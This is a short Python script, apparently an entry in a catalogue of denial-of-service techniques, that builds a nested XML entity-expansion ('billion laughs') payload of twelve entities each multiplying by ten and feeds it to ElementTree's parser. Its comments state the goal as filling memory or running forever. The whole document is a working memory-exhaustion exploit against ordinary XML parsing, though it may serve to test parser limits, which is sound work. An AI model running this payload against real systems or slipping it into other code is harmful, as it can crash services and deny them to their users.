# technique: a document whose entities stand for ten others each
# goal: fill the memory, or last for ever
# impact: dos
# dos: memory
# needs: soft-limit
import xml.etree.ElementTree as ET

names = "abcdefghijkl"
lines = ['<!ENTITY a "ha">'] + [f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip(names, names[1:])]
print(len(ET.fromstring(f"<!DOCTYPE d [{''.join(lines)}]><d>&l;</d>").text))
